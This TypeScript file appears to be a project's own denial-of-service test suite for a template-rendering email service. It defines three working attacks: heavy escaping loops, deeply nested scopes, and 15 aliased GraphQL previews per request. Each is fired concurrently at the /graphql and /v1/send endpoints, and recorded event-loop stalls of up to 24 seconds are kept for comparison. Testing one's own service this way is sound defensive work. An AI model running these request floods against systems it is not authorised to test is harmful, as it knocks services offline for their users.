import type { Attack, Target } from '../define-attack.ts'

/** Escaping makes four characters of each; the loop does so two thousand times. */
const ESCAPED = { body: '{{#l}}{{x}}{{/l}}', data: { l: Array(2_000).fill(1), x: '<'.repeat(60_000) } }
const DEEP_SCOPES = {
  body: `${'{{#a}}'.repeat(19)}{{#l}}${'{{none}}'.repeat(100)}{{/l}}${'{{/a}}'.repeat(19)}`,
  data: { a: { b: 1 }, l: Array(5_000).fill(1) },
}
const ALIASES = 15
const LASTS_MS = 10_000

/** Repeats the requests, all of them at once, and says how they were answered. */
async function repeat(requests: (() => Promise<Response>)[]): Promise<string> {
  const seen = new Map<string, number>()
  const until = performance.now() + LASTS_MS
  const again = async (request: () => Promise<Response>) => {
    while (performance.now() < until) {
      const response = await request()
      const code = /"code":"(\w+)"/.exec(await response.text())?.[1] ?? 'ok'
      seen.set(code, (seen.get(code) ?? 0) + 1)
    }
  }
  await Promise.all(requests.map(again))
  return [...seen].map(([code, count]) => `${count} × ${code}`).join(', ')
}

function post({ url, unlimited }: Target, path: string, body: object): Promise<Response> {
  const headers = { authorization: `Bearer ${unlimited.secret}`, 'content-type': 'application/json' }
  return fetch(`${url}${path}`, { method: 'POST', headers, body: JSON.stringify(body) })
}

const preview = (target: Target, { body, data }: { body: string; data: object }) => {
  const fields = Array.from(
    { length: ALIASES },
    (_, index) => `a${index}: previewTemplate(input: $i) { html }`,
  )
  const query = `query ($i: PreviewTemplateInput!) { ${fields.join(' ')} }`
  return post(target, '/graphql', { query, variables: { i: { subject: 'x', body, data } } })
}

const send = (target: Target, { body, data }: { body: string; data: object }) => {
  const once = Object.fromEntries(
    Object.entries(data).map(([key, value]) => [key, { value, persistent: false }]),
  )
  const from = `x@${target.unlimited.domain}`
  return post(target, '/v1/send', { to: 'a@example.org', from, subject: 'x', body, data: once })
}

const times = (count: number, request: () => Promise<Response>) =>
  Array.from({ length: count }, () => request)

export const previewAliases: Attack = {
  name: 'rendering: 15 previews in one request, loops over what is escaped',
  before: 'the event loop stood still for 24 s',
  run: (target) => repeat(times(2, () => preview(target, ESCAPED))),
}

export const hostileSends: Attack = {
  name: 'rendering: five sends at once, loops over what is escaped',
  before: 'the event loop stood still for 3.3 s',
  run: (target) => repeat(times(5, () => send(target, ESCAPED))),
}

export const deepScopes: Attack = {
  name: 'rendering: deep scopes, in sends and previews',
  before: 'the event loop stood still for 1.1 s',
  run: (target) => repeat([...times(3, () => send(target, DEEP_SCOPES)), () => preview(target, DEEP_SCOPES)]),
}
